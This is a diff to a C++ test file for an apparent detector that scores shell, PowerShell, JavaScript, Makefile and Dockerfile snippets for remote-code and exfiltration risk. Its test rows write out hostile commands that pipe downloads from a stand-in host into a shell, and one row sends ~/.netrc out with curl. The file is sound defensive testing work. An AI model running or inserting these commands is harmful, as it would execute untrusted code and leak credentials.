@@ -142,10 +142,31 @@ TEST_CASE("what a loop reads, what a default gives, what a function sends") {
       {"${SHELL:-bash} -c \"$(curl -s ${U:-https://cdn.zzyzx-tools.net/x})\"\n", "remote-code high"},
       {"ship() { curl -s --data-binary @- https://t.zzyzx-tools.net/u; }\ncat ~/.netrc | ship\n",
        "exfiltration critical"},
+      {"set -- curl -s https://cdn.zzyzx-tools.net/x\n\"$@\" | bash\n", "remote-code high"},
+      {"x=$(curl -s https://cdn.zzyzx-tools.net/x)\nbash <<< \"$x\"\n", "remote-code high"},
+      {"t=$(mktemp)\ncurl -s https://cdn.zzyzx-tools.net/x > \"$t\"\n\"$t\"\n", "remote-code high"},
+      {"set -- --fail https://api.tides.dev/v1\ncurl \"$@\" | jq .\n", ""},
       {"curl -s https://api.tides.dev/ports | while read -r p; do echo \"$p\"; done\n", ""},
       {"show() { jq .; }\ncat table.json | show\nrm -rf \"${TMPDIR:-/tmp}/tides\"\n", ""},
   };
   check_rows(rows, in_script);
+}
+
+TEST_CASE("commands in the words of another program") {
+  CHECK(in_powershell(
+            "Start-Process powershell -ArgumentList '-w hidden -c iwr https://cdn.zzyzx-tools.net/x | iex'\n") ==
+        "remote-code high");
+  CHECK(in_powershell("powershell -Command \"Get-ChildItem | Sort-Object Name\"\n") == "");
+  CHECK(in_javascript(
+            "import('child_process').then(({exec}) => exec('curl -s https://cdn.zzyzx-tools.net/x | sh'));\n") ==
+        "remote-code high");
+  CHECK(in_javascript("const m = /a b/; m.exec('curl x'); exec('select 1 from tides');\n") == "");
+  CHECK(said(with_file("Makefile", "URL := https://x.zzyzx-tools.net\nboot:\n\tcurl -s $(URL)/x | $(SHELL)\n")) ==
+        "remote-code high");
+  CHECK(said(with_file("Dockerfile", "FROM alpine\nADD https://cdn.zzyzx-tools.net/x /x\nRUN sh /x\n")) ==
+        "remote-code high");
+  CHECK(said(with_file("Dockerfile", "FROM alpine\nADD https://cdn.zzyzx-tools.net/t.csv /t.csv\nRUN wc /t.csv\n")) ==
+        "");
 }
 
 TEST_CASE("lists of commands in workflows") {
@@ -157,9 +178,9 @@ TEST_CASE("lists of commands in workflows") {
 }
 
 TEST_CASE("a script that a shell cannot read to its end") {
-  CHECK(in_script("echo \"tides\nls\n") == "opaque-code low");
+  CHECK(in_script("echo \"tides\ncurl https://api.tides.dev\n") == "opaque-code low");
   CHECK(in_script(std::string(80, '(') + "curl -s http://203.0.113.7/x | sh\n").find("opaque-code high") !=
         std::string::npos);
-  CHECK(in_script("echo \"tides\"\nls\n") == "");
-  CHECK(in_fence("echo \"tides\nls\n") == "");
+  CHECK(in_script("echo \"tides\"\ncurl https://api.tides.dev\n") == "");
+  CHECK(in_fence("echo \"tides\ncurl https://api.tides.dev\n") == "");
 }
